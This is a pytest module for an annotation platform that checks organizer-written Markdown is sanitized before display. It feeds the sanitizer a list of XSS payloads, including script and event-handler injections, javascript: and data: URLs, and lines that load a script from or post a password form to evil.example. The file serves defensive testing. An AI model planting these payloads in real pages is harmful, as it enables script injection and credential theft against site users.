"""What organizers write in Markdown runs nothing in anybody's browser."""

from __future__ import annotations

import html as entities
import re
from html.parser import HTMLParser

import pytest

from annotation.campaigns.publishing import publish_guideline, publish_notice
from annotation.guidelines.text import guideline_html
from tests.security.scene import Scene

ATTACKS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![tracked](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<style>body { background: url(https://evil.example/) }</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<video src=https://evil.example/x.mp4 autoplay></video><audio src=x></audio>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<p id=root class=app name=x data-x=1 is=x slot=x>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
)
# What may stand in a text, and no more.
HARMLESS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "ol", "p", "pre", "q", "s",
    "small", "span", "strike", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot",
    "th", "thead", "tr", "tt", "u", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "start", "open", "lang", "align", "colspan", "rowspan"}
SCHEME = re.compile(r"[\s\x00-\x20]*([a-zA-Z][\w+.-]*):")


class Elements(HTMLParser):
    """Every element with its attributes, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src"}]


def schemes(found: Elements) -> set[str]:
    matches = [SCHEME.match(entities.unescape(address)) for address in found.addresses]
    return {match[1].lower() for match in matches if match}


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_comes_out_harmless(attack: str) -> None:
    found = Elements(guideline_html(f"Before.\n\n{attack}\n\nAfter."))
    assert found.names - HARMLESS == set()
    assert found.attributes - ATTRIBUTES == set()
    assert schemes(found) - {"http", "https", "mailto"} == set()


@pytest.mark.parametrize("attack", ["`<script>alert(1)</script>`", "```\n<img onerror=x>\n```"])
def test_code_is_shown_as_it_was_written(attack: str) -> None:
    shown = guideline_html(attack)
    assert "&lt;" in shown
    assert Elements(shown).names <= {"p", "pre", "code"}


def test_links_to_elsewhere_reveal_nothing_of_where_they_are() -> None:
    shown = guideline_html("[guide](https://example.org/guide) and <b>more</b>")
    assert 'href="https://example.org/guide"' in shown
    assert 'rel="noopener noreferrer"' in shown
    assert "<b>more</b>" in shown


@pytest.mark.django_db
def test_every_page_shows_it_clean(scene: Scene) -> None:
    campaign, body = scene.stage.campaign, "Read <img src=x onerror=x> [x](javascript:x) <script>"
    publish_guideline(campaign=campaign, body=body)
    publish_notice(campaign=campaign, body=body)
    desk = scene.client("assessor").get(f"/api/judging/{campaign.pk}").json()
    organizer = scene.client("organizer")
    shown = [desk["guideline"]["html"], desk["notice"]["html"]] + [
        organizer.get(f"/api/campaigns/{campaign.pk}/{page}").json()[0]["html"]
        for page in ("guidelines", "notices")
    ]
    found = [Elements(html) for html in shown]
    assert [(elements.names, elements.attributes) for elements in found] == [({"p"}, set())] * 4


@pytest.mark.django_db
def test_answers_are_no_pages(scene: Scene) -> None:
    """What somebody wrote is never sent as HTML: a browser that opens the address shows text."""
    client = scene.client("organizer")
    answer = client.post(
        "/api/campaigns", {"name": "<script>alert(1)</script>"}, content_type="application/json"
    )
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
